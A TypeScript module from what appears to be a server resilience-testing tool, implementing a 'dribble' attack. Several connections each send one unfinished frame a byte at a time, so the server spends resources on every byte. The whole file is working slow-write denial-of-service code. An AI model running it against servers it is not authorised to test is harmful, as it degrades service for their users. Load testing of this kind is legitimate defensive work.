import type { Socket } from 'node:net';
import type { Attack } from '../attack.js';
import { AttackConnections } from '../connections.js';
import { partialFrame } from '../frames.js';

export interface DribbleOptions {
  /** Connections dribbling at once. Default 16. */
  readonly connections?: number;
  /** Most bytes each sends (all of one frame that never ends). Default 1 MiB. */
  readonly bytesPerConnection?: number;
}

/**
 * Connections that send one long frame a byte per write, as fast as the socket takes them and
 * never the last byte: each write leaves alone once the last one has, so each byte is a TCP
 * segment (and a read) of its own. What a server keeps per read is multiplied by every byte.
 */
export function dribble(options: DribbleOptions = {}): Attack {
  const { connections = 16, bytesPerConnection = 1024 * 1024 } = options;
  return {
    name: 'dribble',
    description: `${connections} connections each send up to ${bytesPerConnection} B of one frame in 1-byte writes, never finishing it`,
    needsFrameBoundaries: true,
    holdsConnection: true,
    start(target) {
      const attack = new AttackConnections(target.host, target.port);
      const frame = partialFrame(target.codec, bytesPerConnection, target.maxFrameBytes);
      const offsets = new Map<Socket, number>();
      for (let index = 0; index < connections; index++) {
        attack.connect(
          (socket) => offsets.set(socket, 0),
          (socket) => offsets.delete(socket),
        );
      }
      const tick = () => {
        if (attack.done) return;
        let wrote = false;
        for (const [socket, offset] of offsets) {
          if (offset >= frame.length || socket.writableLength > 0) continue;
          attack.write(socket, frame.subarray(offset, offset + 1));
          offsets.set(socket, offset + 1);
          wrote = true;
        }
        // One byte per connection per turn of the event loop, so this process still does I/O;
        // when nobody could write, wait a millisecond rather than spin.
        if (wrote) setImmediate(tick);
        else setTimeout(tick, 1);
      };
      tick();
      return { figures: () => attack.figures(), stop: () => attack.stop() };
    },
  };
}
